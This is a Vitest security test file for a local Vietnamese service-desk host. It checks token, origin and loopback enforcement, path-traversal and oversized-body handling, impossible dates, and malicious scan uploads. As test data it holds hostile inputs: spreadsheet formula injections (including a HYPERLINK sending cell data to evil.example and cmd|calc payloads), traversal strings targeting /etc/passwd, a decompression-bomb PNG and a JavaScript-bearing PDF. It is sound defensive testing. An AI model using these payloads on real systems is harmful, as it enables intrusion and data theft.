import ExcelJS from 'exceljs';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { request } from 'node:http';
import { connect } from 'node:net';
import { networkInterfaces, tmpdir } from 'node:os';
import { join } from 'node:path';
import { deflateSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { assertLoopback, startHost } from '../../main/host/server';
import { SCAN_IMPORT_MAX_BODY } from '../../shared/contract/scans.schema';
import { freshApp, SAMPLE_UNIT } from '../support/app';
import { storeTargets } from '../support/stores';
import { DeskClient, killHard, launchHost, signInAdmin, type HostInfo, type LaunchedHost } from '../stress/host-process';

/**
 * Hostile and malformed input against the real host process: the HTTP door (token, origin, host,
 * loopback, traversal, body size, broken UTF-8) and the files that come through it (impossible
 * dates, CSV injection into the XLSX exports, broken or dangerous scan files).
 */

function raw(host: HostInfo, opts: { method?: string; path: string; headers?: Record<string, string>; body?: Buffer | string }) {
  return new Promise<{ status: number; body: string }>((resolve, reject) => {
    const req = request({ host: '127.0.0.1', port: host.port, method: opts.method ?? 'GET', path: opts.path, headers: opts.headers }, (res) => {
      const chunks: Buffer[] = [];
      res.on('data', (c: Buffer) => chunks.push(c));
      res.on('end', () => resolve({ status: res.statusCode!, body: Buffer.concat(chunks).toString('utf8') }));
    });
    req.on('error', reject);
    if (opts.body !== undefined) req.write(opts.body);
    req.end();
  });
}

const vn = /[ăâđêôơưàáạảãèéẹẻẽìíịỉĩòóọỏõùúụủũỳýỵỷỹ]/i;

describe('hostile input against the real host process', () => {
  let dataDir: string;
  let host: LaunchedHost;
  let info: HostInfo;
  let client: DeskClient;
  let code: string;

  beforeAll(async () => {
    dataDir = mkdtempSync(join(tmpdir(), 'motcua-hostile-'));
    host = launchHost(dataDir);
    info = await host.ready;
    client = new DeskClient(info);
    await signInAdmin(client);
    await client.invoke('unit.save', SAMPLE_UNIT);
    code = (
      await client.invoke('dossiers.create', {
        requestId: crypto.randomUUID(),
        procedureCode: '2.000815',
        applicant: { fullName: '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào")', idNumber: '045301001234', dateOfBirth: '2001-05-04', phone: '0912345678', address: '+SUM(1;2)' },
        components: [{ position: 0, received: true }, { position: 1, received: true }],
        fee: { pages: 1, copies: 1 },
        note: '@cmd|/C calc!A0',
      })
    ).code;
  });
  afterAll(async () => {
    if (host) await killHard(host);
    if (dataDir) rmSync(dataDir, { recursive: true, force: true });
  });

  const auth = () => ({ Authorization: `Bearer ${info.token}`, 'Content-Type': 'application/json', 'X-Motcua-Session': client.session! });

  it('answers 401 without the token, with a wrong token, and on every route that carries data', async () => {
    for (const path of ['/rpc/app.info', '/rpc/dossiers.list']) {
      expect((await raw(info, { method: 'POST', path, body: '{}' })).status).toBe(401);
      expect((await raw(info, { method: 'POST', path, headers: { Authorization: `Bearer ${'A'.repeat(info.token.length)}` }, body: '{}' })).status).toBe(401);
      expect((await raw(info, { method: 'POST', path, headers: { Authorization: `Bearer ${info.token}x` }, body: '{}' })).status).toBe(401);
    }
    expect((await raw(info, { path: '/events' })).status).toBe(401);
    expect((await raw(info, { path: `/files/00000000-0000-0000-0000-000000000000` })).status).toBe(401);
    // With the token but without an officer's session, dossier data stays closed.
    const noSession = await raw(info, { method: 'POST', path: '/rpc/dossiers.list', headers: { Authorization: `Bearer ${info.token}` }, body: '{}' });
    expect(JSON.parse(noSession.body)).toMatchObject({ ok: false, error: { code: 'unauthenticated' } });
  });

  it('refuses another origin and a foreign Host header even with the token', async () => {
    for (const origin of ['https://evil.example', 'http://127.0.0.1:1', 'null', `http://127.0.0.1:${info.port}.evil.example`]) {
      const r = await raw(info, { method: 'POST', path: '/rpc/app.info', headers: { ...auth(), Origin: origin }, body: '{}' });
      expect(r.status, origin).toBe(401);
    }
    const same = await raw(info, { method: 'POST', path: '/rpc/app.info', headers: { ...auth(), Origin: `http://127.0.0.1:${info.port}` }, body: '{}' });
    expect(same.status).toBe(200);
    const rebinding = await raw(info, { method: 'POST', path: '/rpc/app.info', headers: { ...auth(), Host: `evil.example:${info.port}` }, body: '{}' });
    expect(rebinding.status).toBe(421);
  });

  it('cannot be reached on a non-loopback address, and cannot be told to bind one', async () => {
    const external = Object.values(networkInterfaces())
      .flat()
      .find((a) => a && a.family === 'IPv4' && !a.internal)?.address;
    if (external) {
      const refused = await new Promise<boolean>((resolve) => {
        const s = connect({ host: external, port: info.port });
        s.once('connect', () => (s.destroy(), resolve(false)));
        s.once('error', () => resolve(true));
      });
      expect(refused, `host answered on ${external}`).toBe(true);
    }
    for (const addr of ['0.0.0.0', '::', '192.168.1.10', '::ffff:192.168.1.10', '127.0.0.1.evil', 'localhost.evil']) expect(() => assertLoopback(addr), addr).toThrow(/loopback/);
    const env = await freshApp(storeTargets()[0]!);
    try {
      await expect(startHost({ app: env.app, staticDir: dataDir, bindAddress: '0.0.0.0' })).rejects.toThrow(/loopback/);
    } finally {
      await env.cleanup();
    }
  });

  it('refuses path traversal on the files route and the static route', async () => {
    writeFileSync(join(dataDir, 'secret.txt'), 'SECRET-OF-THE-DESK');
    const attempts = [
      '/files/../../package.json',
      '/files/..%2f..%2fpackage.json',
      '/files/%2e%2e%2f%2e%2e%2fpackage.json',
      '/files/..%5c..%5cpackage.json',
      `/files/${encodeURIComponent(join(dataDir, 'secret.txt'))}`,
      '/files/00000000-0000-0000-0000-000000000000/../../../package.json',
      '/files/%00',
      '/../package.json',
      '/%2e%2e/%2e%2e/package.json',
      '/assets/..%2f..%2f..%2fpackage.json',
      '/..%5c..%5cpackage.json',
      `/${'..%2f'.repeat(12)}etc%2fpasswd`,
    ];
    for (const path of attempts) {
      const withToken = path.startsWith('/files/') ? `${path}${path.includes('?') ? '&' : '?'}token=${info.token}&session=${client.session}` : path;
      const r = await raw(info, { path: withToken });
      expect(r.body, path).not.toContain('"name": "motcua-desk"');
      expect(r.body, path).not.toContain('SECRET-OF-THE-DESK');
      expect(r.body, path).not.toMatch(/root:x:0:0/);
      if (path.startsWith('/files/')) expect([400, 403, 404], path).toContain(r.status);
    }
  });

  it('answers a body of broken UTF-8 or broken JSON with an error envelope and keeps serving', async () => {
    const bodies = [
      Buffer.from([0xc0, 0xaf, 0xe0, 0x80, 0xaf]),
      Buffer.from('{"parentAgency": '),
      Buffer.from('\u0000\u0000'),
      Buffer.from('[[[[[[[[[[[[[[[[[[[['.repeat(500)),
    ];
    for (const body of bodies) {
      const r = await raw(info, { method: 'POST', path: '/rpc/unit.save', headers: auth(), body });
      expect(r.status).toBeLessThan(500);
      expect(JSON.parse(r.body)).toMatchObject({ ok: false, error: { code: 'invalid_input' } });
    }
    // A field that arrives as broken UTF-8 must be refused, not saved as U+FFFD garbage in a citizen's name.
    const broken = (json: string) => {
      const b = Buffer.from(json, 'utf8');
      const i = b.indexOf('QQ');
      b[i] = 0xff;
      b[i + 1] = 0xfe;
      return b;
    };
    const unit = await raw(info, { method: 'POST', path: '/rpc/unit.save', headers: auth(), body: broken(JSON.stringify({ ...SAMPLE_UNIT, place: 'Hướng QQ' })) });
    expect(JSON.parse(unit.body), `unit profile saved from a body that is not UTF-8: ${unit.body.slice(0, 160)}`).toMatchObject({ ok: false, error: { code: 'invalid_input' } });
    const dossier = JSON.stringify({
      requestId: crypto.randomUUID(),
      procedureCode: '2.000815',
      applicant: { fullName: 'Lê QQ', idNumber: '045084000999', dateOfBirth: '1984-05-04', phone: '0912345678', address: 'Thôn Cợp' },
      components: [{ position: 0, received: true }],
      fee: { pages: 1, copies: 1 },
    });
    const r = await raw(info, { method: 'POST', path: '/rpc/dossiers.create', headers: auth(), body: broken(dossier) });
    expect(JSON.parse(r.body), `a dossier was saved from a body that is not UTF-8: ${r.body.slice(0, 160)}`).toMatchObject({ ok: false, error: { code: 'invalid_input' } });
    // The same request in proper UTF-8 is saved: the refusal above is about the bytes, not the data.
    const ok = await raw(info, { method: 'POST', path: '/rpc/dossiers.create', headers: auth(), body: Buffer.from(dossier.replace('QQ', 'Văn Tư'), 'utf8') });
    expect(JSON.parse(ok.body)).toMatchObject({ ok: true, value: { applicant: { fullName: 'Lê Văn Tư' } } });
    expect((await client.call('app.info')).envelope.ok).toBe(true);
  });

  it('answers an oversized body with 413 and a Vietnamese message', async () => {
    const big = Buffer.alloc(11 * 1024 * 1024, 0x20);
    const r = await raw(info, { method: 'POST', path: '/rpc/unit.save', headers: auth(), body: big });
    expect(r.status).toBe(413);
    const e = JSON.parse(r.body);
    expect(e).toMatchObject({ ok: false, error: { code: 'invalid_input' } });
    expect(e.error.message).toMatch(vn);
    const huge = JSON.stringify({ dossierCode: code, component: 0, profile: 'plain_text', name: 'lon.png', dataBase64: 'A'.repeat(SCAN_IMPORT_MAX_BODY + 1024) });
    const r2 = await raw(info, { method: 'POST', path: '/rpc/scans.import', headers: auth(), body: huge });
    expect(r2.status).toBe(413);
    expect(JSON.parse(r2.body).error.message).toMatch(vn);
    expect((await client.call('app.info')).envelope.ok).toBe(true);
  });

  it('refuses impossible dates like 2026-02-30 in forms, filters and imported files', async () => {
    const bad = await client.call('dossiers.create', {
      requestId: crypto.randomUUID(),
      procedureCode: '2.000815',
      applicant: { fullName: 'Lê Văn Tám', idNumber: '045301001234', dateOfBirth: '2026-02-30', phone: '0912345678', address: 'Thôn Cợp' },
      components: [{ position: 0, received: true }],
    });
    expect(bad.envelope).toMatchObject({ ok: false, error: { code: 'invalid_input' } });
    expect(bad.envelope.error!.issues!.map((i) => i.path)).toContain('applicant.dateOfBirth');
    for (const [channel, input] of [
      ['reports.run', { from: '2026-02-30', to: '2026-03-31' }],
      ['reports.exportBook', { from: '2026-01-01', to: '2026-02-30' }],
      ['calendar.day', { date: '2026-02-30' }],
      ['documents.render', { target: { kind: 'book', from: '2026-02-30', to: '2026-03-01' } }],
    ] as const) {
      const r = await client.call(channel, input);
      expect(r.envelope, channel).toMatchObject({ ok: false, error: { code: 'invalid_input' } });
    }
    const csv = ['ma_thu_tuc,ho_ten,so_giay_to,kenh,ngay_nhan', '2.000815,Lê Văn Tám,,truc_tiep,2026-02-30T09:00', '2.000815,Lê Văn Chín,,truc_tiep,30/02/2026 09:00', '2.000815,Lê Văn Mười,,truc_tiep,2026-03-02T09:00'].join('\n');
    const imported = await client.invoke('dossiers.import', { fileName: 'cu.csv', contentBase64: Buffer.from(csv).toString('base64'), allOrNothing: true });
    expect(imported.rejected).toBe(true);
    expect(imported.imported).toBe(0);
    expect(imported.errors.map((e: { line: number }) => e.line)).toEqual([2, 3]);
    expect(imported.errors[0].message).toMatch(vn);
  });

  it('refuses a CSV that is not UTF-8 with a message saying how to save it', async () => {
    const latin1 = Buffer.from('ma_thu_tuc,ho_ten,kenh,ngay_nhan\n2.000815,Nguy\xean V\xe0,truc_tiep,2026-03-02T09:00\n', 'latin1');
    const r = await client.call('dossiers.import', { fileName: 'cu.csv', contentBase64: latin1.toString('base64') });
    expect(r.envelope).toMatchObject({ ok: false, error: { code: 'invalid_input' } });
    expect(r.envelope.error!.message).toContain('UTF-8');
  });

  it('neutralises CSV/formula injection in every XLSX export (book and report)', async () => {
    const csv = ['ma_thu_tuc,ho_ten,so_giay_to,kenh,ngay_nhan,dia_chi', `2.000815,"=cmd|' /C calc'!A0",,truc_tiep,2026-03-16T09:00,-2+3`].join('\n');
    const imported = await client.invoke('dossiers.import', { fileName: 'tiem.csv', contentBase64: Buffer.from(csv).toString('base64') });
    expect(imported.imported).toBe(1);
    const book = await client.invoke('reports.exportBook', { from: '2026-03-01', to: '2026-03-31' });
    const report = await client.invoke('reports.export', { from: '2026-03-01', to: '2026-03-31', format: 'xlsx', periodLabel: '=1+1 Tháng 3' });
    for (const exported of [book, report]) {
      const file = await client.file(exported.fileId);
      expect(file.status).toBe(200);
      const wb = new ExcelJS.Workbook();
      await wb.xlsx.load(file.bytes as unknown as ArrayBuffer);
      const texts: string[] = [];
      wb.eachSheet((ws) =>
        ws.eachRow((row) =>
          row.eachCell((cell) => {
            expect(cell.formula, `${ws.name}!${cell.address}`).toBeFalsy();
            if (typeof cell.value === 'string') {
              texts.push(cell.value);
              expect(cell.value, `${ws.name}!${cell.address}`).not.toMatch(/^[=+\-@\t\r]/);
            }
          }),
        ),
      );
      if (exported === book) {
        expect(texts).toContain(`'=cmd|' /C calc'!A0`);
        expect(texts.some((t) => t.startsWith(`'=HYPERLINK(`))).toBe(true);
        expect(texts.some((t) => t.includes('@cmd|/C calc!A0'))).toBe(true);
      } else expect(texts.some((t) => t.includes('=1+1 Tháng 3'))).toBe(true);
    }
  });

  it('refuses broken and dangerous scan files with a clerk-readable message, never an internal error', async () => {
    const png = (w: number, h: number) => {
      const chunk = (type: string, data: Buffer) => {
        const len = Buffer.alloc(4);
        len.writeUInt32BE(data.length);
        return Buffer.concat([len, Buffer.from(type), data, Buffer.alloc(4)]);
      };
      const ihdr = Buffer.alloc(13);
      ihdr.writeUInt32BE(w, 0);
      ihdr.writeUInt32BE(h, 4);
      ihdr[8] = 8;
      ihdr[9] = 2;
      return Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), chunk('IHDR', ihdr), chunk('IDAT', deflateSync(Buffer.alloc(1000))), chunk('IEND', Buffer.alloc(0))]);
    };
    const files: Array<[string, Buffer]> = [
      ['rong.png', Buffer.alloc(0)],
      ['chu.png', Buffer.from('đây không phải ảnh')],
      ['trang.pdf', Buffer.from('<html><script>alert(1)</script></html>')],
      ['bom.png', png(60_000, 60_000)],
      ['cut.png', png(800, 1100).subarray(0, 40)],
      ['hong.pdf', Buffer.from('%PDF-1.7\n1 0 obj << /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>\n%%EOF')],
      ['../../../../tmp/evil.png', png(10, 10)],
    ];
    for (const [name, bytes] of files) {
      const r = await client.call('scans.import', { dossierCode: code, component: 0, profile: 'plain_text', name, dataBase64: bytes.toString('base64') });
      expect(r.envelope.ok, name).toBe(false);
      expect(['invalid_input', 'conflict'], `${name}: ${r.envelope.error?.code} ${r.envelope.error?.message}`).toContain(r.envelope.error!.code);
      expect(r.envelope.error!.message, name).toMatch(vn);
    }
    expect(host.child.exitCode).toBeNull();
    expect((await client.call('app.info')).envelope.ok).toBe(true);
  });
});
